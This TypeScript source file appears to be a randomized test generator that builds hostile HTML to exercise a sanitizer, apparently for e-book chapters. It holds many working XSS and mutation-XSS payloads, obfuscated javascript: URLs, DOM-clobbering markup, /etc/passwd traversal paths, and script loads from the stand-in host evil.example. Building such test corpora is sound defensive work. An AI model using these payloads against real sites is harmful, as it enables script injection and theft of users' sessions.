import type { Chance } from './chance.ts'

/** Traces that show whether a script ran or an address was loaded. */
const run = 'top.caught=1'
const far = 'https://evil.example'

const events = [
  'onload',
  'onerror',
  'onclick',
  'onfocus',
  'ontoggle',
  'onbegin',
  'onanimationstart',
  'onpointerover',
  'onwheel',
  'oncontentvisibilityautostatechange',
]
const hosts = [
  'p',
  'img src="none.png"',
  'svg',
  'math',
  'details open=""',
  'video',
  'audio',
  'body',
  'marquee',
  'a tabindex="0" autofocus=""',
  'x-own',
  'table',
  'iframe',
  'object',
  'style',
  'animate',
  'set',
  'mi',
]

/** Addresses that run scripts or load something. */
const addresses = (chance: Chance) => {
  const javascript = chance.one([
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    '&#106;avascript:',
    ' javascript:',
    'java&#x0A;script:',
    '\u0001javascript:',
  ])
  return chance.one([
    `${javascript}${run}`,
    `data:text/html,<script>${run}</script>`.replaceAll('<', '&lt;'),
    'data:image/svg+xml,&lt;svg xmlns="http://www.w3.org/2000/svg" onload="top.caught=1"/>'.replaceAll(
      '"',
      "'",
    ),
    `vbscript:${run}`,
    'blob:https://evil.example/1',
    `${far}/a`,
    '//evil.example/b',
    '\\\\evil.example\\c',
    'http:evil.example/d',
    'https:/evil.example/e',
    'file:///etc/passwd',
    '../../../../etc/passwd',
    'kindle:embed:ZZZZ',
    'filepos:99999999999',
    '/api/session',
    '?x=1',
    `https://evil.example\u2028/f`,
  ])
}

const loading = [
  (at: string) => `<img src="${at}" srcset="${at} 2x" alt="x"/>`,
  (at: string) => `<img lowsrc="${at}" dynsrc="${at}" recindex="00001" src="${at}"/>`,
  (at: string) => `<picture><source srcset="${at}"/><img src="${at}"/></picture>`,
  (at: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${at}" href="${at}"/><use href="${at}#x"/><feImage href="${at}"/></svg>`,
  (at: string) => `<video src="${at}" poster="${at}"><track src="${at}"/></video><audio src="${at}"/>`,
  (at: string) => `<iframe src="${at}"></iframe><iframe srcdoc="&lt;script>${run}&lt;/script>"></iframe>`,
  (at: string) => `<object data="${at}"><embed src="${at}"/><param name="movie" value="${at}"/></object>`,
  (at: string) =>
    `<link rel="stylesheet" href="${at}"/><link rel="preload" as="image" href="${at}"/><link rel="prefetch dns-prefetch preconnect" href="${at}"/>`,
  (at: string) => `<base href="${at}"/><img src="x.png"/><a href="y">y</a>`,
  (at: string) =>
    `<meta http-equiv="refresh" content="0;url=${at}"/><meta http-equiv="Content-Security-Policy" content="img-src *"/>`,
  (at: string) =>
    `<form action="${at}"><input type="image" src="${at}" formaction="${at}"/><button formaction="${at}">Go on</button><isindex action="${at}"/></form>`,
  (at: string) =>
    `<body background="${at}"><table background="${at}"><tr><td background="${at}">x</td></tr></table></body>`,
  (at: string) =>
    `<style>@import url("${at}"); p { background: url(${at}); width: expression(${run}) } @font-face { font-family: x; src: url(${at}) }</style>`,
  (at: string) => `<p style="background:url(${at});-moz-binding:url(${at}#x);behavior:url(${at})">styled</p>`,
  (at: string) => `<a href="${at}" ping="${at}" target="_top" download="x">follow</a><area href="${at}"/>`,
  (at: string) =>
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="${at}"><maction actiontype="statusline" xlink:href="${at}"><mtext>x</mtext></maction><annotation-xml encoding="text/html"><img src="${at}"/></annotation-xml></math>`,
  (at: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="${at}" href="${at}"><text>go</text></a><animate attributeName="href" values="${at}"/><foreignObject><iframe src="${at}"/></foreignObject></svg>`,
  (at: string) =>
    `<blockquote cite="${at}">q</blockquote><q cite="${at}">q</q><ins cite="${at}">i</ins><html manifest="${at}"/>`,
  (at: string) =>
    `<portal src="${at}"></portal><fencedframe src="${at}"></fencedframe><script type="speculationrules">{"prefetch":[{"urls":["${at}"]}]}</script>`,
]

const scripts = [
  `<script>${run}</script>`,
  `<script src="${far}/s.js"></script>`,
  `<SCRIPT type="module">import("${far}/m.js")</SCRIPT>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`,
  `<math xmlns="http://www.w3.org/1998/Math/MathML"><script>${run}</script></math>`,
  `<template><script>${run}</script><img src="x" onerror="${run}"/></template>`,
  `<template shadowrootmode="open"><script>${run}</script><slot></slot></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run}</h:script>`,
  `<x xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/2000/svg" href="data:,${run}"/></x>`,
  `<?xml-stylesheet href="${far}/x.xsl" type="text/xsl"?>`,
  `<img name="getElementById"/><form id="document"><input name="body"/></form><a id="location" href="x">x</a><p id="__proto__">x</p>`,
  `<p id='"><img src=x onerror=${run}>' lang='"><script>${run}</script>' dir="ltr&quot; onload=${run}">x</p>`,
  `<td colspan="999999999" rowspan="-1">x</td><ol start='1" onclick="${run}'><li>x</li></ol>`,
]

/** Markup that changes when it is serialized and parsed again (mutation XSS). */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${run}>--></p></foreignObject></svg>`,
  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>"></p></xmp>`,
  `<title><img title="</title><script>${run}</script>"></title>`,
  `<textarea><a title="</textarea><svg onload=${run}>"></a></textarea>`,
  `<select><option><style></option></select><img src=x onerror=${run}></style></option></select>`,
  `<a><b><a><table><a></table><svg><desc><img src=x onerror=${run}></desc></svg>`,
  `<math><annotation-xml encoding="text/html"><svg><title><style><img title="</style><img src=x onerror=${run}>">`,
  `<p><![CDATA[<img src=x onerror=${run}>]]></p><!-- --!><img src=x onerror=${run}> -->`,
  `<plaintext><img src=x onerror=${run}>`,
  `<frameset onload=${run}><frame src="javascript:${run}">`,
  `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<\u0000script>${run}</script><scr\u0000ipt>${run}</scr\u0000ipt><img/src=x/onerror=${run}>`,
  `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg><math><mi><style>&lt;/style>&lt;img src=x onerror=${run}&gt;</style></mi></math>`,
]

const around = [
  '',
  'p',
  'div',
  'table',
  'svg',
  'math',
  'ul',
  'blockquote',
  'a href="#x"',
  'select',
  'template',
  'details',
  'ruby',
  'em',
  'pre',
  'title',
  'annotation-xml encoding="text/html"',
  'foreignObject',
  'mtext',
  'x-own is="y"',
]

function event(chance: Chance): string {
  const host = chance.one(hosts)
  const name = chance.one(events)
  const written = chance.happens(0.3) ? name.toUpperCase() : name
  return `<${host} ${written}="${run}">x</${host.split(' ')[0]}>`
}

/** A chapter with some attacks, nested or side by side. */
export function hostileMarkup(chance: Chance): string {
  let markup = ''
  for (let left = 3 + chance.below(8); left > 0; left -= 1) {
    const one = chance.one([
      () => event(chance),
      () => chance.one(loading)(addresses(chance)),
      () => chance.one(scripts),
      () => chance.one(mutations),
    ])()
    const wrap = chance.one(around)
    const inside = chance.happens(0.3) ? `${markup}${one}` : one
    const wrapped = wrap ? `<${wrap}>${inside}</${wrap.split(' ')[0]}>` : inside
    markup = inside === one ? `${markup}${wrapped}` : wrapped
  }
  return chance.happens(0.2) ? torn(markup, chance) : markup
}

/** Drops, doubles or changes random letters. */
function torn(markup: string, chance: Chance): string {
  let text = markup
  for (let left = 1 + chance.below(6); left > 0; left -= 1) {
    const at = chance.below(text.length)
    text =
      text.slice(0, at) +
      chance.one(['', '<', '>', '"', "'", '/', '&', '\u0000', ']]>', '<!--']) +
      text.slice(at + chance.below(3))
  }
  return text
}
